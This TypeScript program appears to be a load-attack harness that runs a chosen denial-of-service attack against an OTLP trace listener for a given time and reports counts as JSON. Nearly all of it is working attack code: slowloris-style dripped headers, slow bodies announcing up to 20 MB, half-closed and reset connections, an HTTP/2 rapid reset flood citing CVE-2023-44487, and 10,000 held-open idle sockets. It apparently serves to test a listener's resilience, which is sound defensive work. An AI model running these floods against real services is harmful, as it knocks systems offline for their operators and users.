/**
 * A hostile client of an OTLP listener, as a program: `attack.ts KIND HOST:PORT SECONDS` goes on for so long, and prints
 * what it saw as JSON. A process of its own, so that its work does not slow down who looks at the victim.
 */
import { connect as connectHttp2, constants } from "node:http2";
import { connect, type Socket } from "node:net";
import { setTimeout as sleep } from "node:timers/promises";

/** What an attacker counts: how often it did what it does, and what came back. */
type Seen = Record<string, number>;

const [kind = "", listener = "", seconds = "0"] = process.argv.slice(2);
const [host = "", port = ""] = listener.split(":");
const endsAt = performance.now() + Number(seconds) * 1_000;
const seen: Seen = {};
const count = (what: string): void => void (seen[what] = (seen[what] ?? 0) + 1);
const isOver = (): boolean => performance.now() >= endsAt;

const head = (length: number): string =>
  `POST /v1/traces HTTP/1.1\r\nhost: ${listener}\r\ncontent-type: application/x-protobuf\r\ncontent-length: ${length}\r\n\r\n`;

/** A connection, the answers of which are counted by status. Resolves when it is there. */
function open(): Promise<Socket> {
  return new Promise((resolve) => {
    const socket = connect({ host, port: Number(port), allowHalfOpen: true });
    socket.on("data", (part: Buffer) => {
      const status = /^HTTP\/1\.1 (\d+)/.exec(part.toString("latin1"))?.[1];
      if (status !== undefined) count(`answer ${status}`);
    });
    socket.on("end", () => socket.destroy());
    socket.on("error", () => count("error"));
    socket.on("close", () => count("closed"));
    socket.once("connect", () => {
      count("connected");
      resolve(socket);
    });
    socket.once("error", () => resolve(socket));
  });
}

/** So many at the same time, each again and again until the time is over. */
async function many(howMany: number, play: () => Promise<void>): Promise<void> {
  const one = async (): Promise<void> => {
    while (!isOver()) await play();
  };
  await Promise.all(Array.from({ length: howMany }, one));
}

/** Writes piece by piece, for as long as the other side lets it. */
async function drip(socket: Socket, piece: string, everyMs: number): Promise<void> {
  while (!isOver() && !socket.destroyed && socket.writable) {
    socket.write(piece);
    await sleep(everyMs);
  }
  socket.destroy();
}

const attacks: Readonly<Record<string, () => Promise<void>>> = {
  "slow headers": () =>
    many(300, async () => {
      const socket = await open();
      socket.write(`POST /v1/traces HTTP/1.1\r\nhost: ${listener}\r\n`);
      await drip(socket, "x-a: b\r\n", 200);
    }),
  // They announce bodies of every size up to the largest, which would fill any room, and send next to nothing of them.
  "slow bodies": () =>
    many(300, async () => {
      const socket = await open();
      socket.write(head(Math.ceil((20 * 1024 * 1024) / 2 ** (seen["connected"]! % 15))));
      await drip(socket, "0123456789", 200);
    }),
  "half closed": () =>
    many(20, async () => {
      const socket = await open();
      // A whole, empty request, or half of one; and then nothing more will come.
      socket.end(seen["connected"]! % 2 === 0 ? head(0) : `${head(1_000)}0123456789`);
      const patience = sleep(5_000, undefined, { ref: false });
      await Promise.race([new Promise((resolve) => socket.once("close", resolve)), patience]);
      socket.destroy();
      await sleep(10);
    }),
  "reset in bodies": () =>
    many(20, async () => {
      const socket = await open();
      socket.write(head(1_000_000));
      socket.write(Buffer.alloc(50_000));
      await sleep(10);
      socket.resetAndDestroy();
    }),
  // CVE-2023-44487: streams that are opened and reset at once cost the client nothing.
  "rapid reset": () =>
    many(4, async () => {
      const session = connectHttp2(`http://${listener}`);
      session.on("error", () => count("error"));
      session.on("goaway", () => count("goaway"));
      session.once("connect", () => count("connected"));
      while (!isOver() && !session.destroyed && !session.closed) {
        for (let i = 0; i < 100 && !session.destroyed && !session.closed; i++) {
          const stream = session.request({ ":method": "POST", ":path": "/x", "content-type": "application/grpc" });
          stream.on("error", () => undefined);
          stream.close(constants.NGHTTP2_CANCEL);
          count("streams");
        }
        await sleep(1);
      }
      session.destroy();
      count("closed");
      await sleep(200);
    }),
  idle: async () => {
    const wanted = 10_000;
    const sockets: Socket[] = [];
    // However long that takes: what matters is that they are there together.
    while (sockets.length < wanted) {
      sockets.push(...(await Promise.all(Array.from({ length: 100 }, open))));
    }
    await sleep(Math.max(5_000, endsAt - performance.now()));
    for (const socket of sockets) socket.removeAllListeners("close").destroy();
  },
};

await attacks[kind]!();
console.log(JSON.stringify(seen));
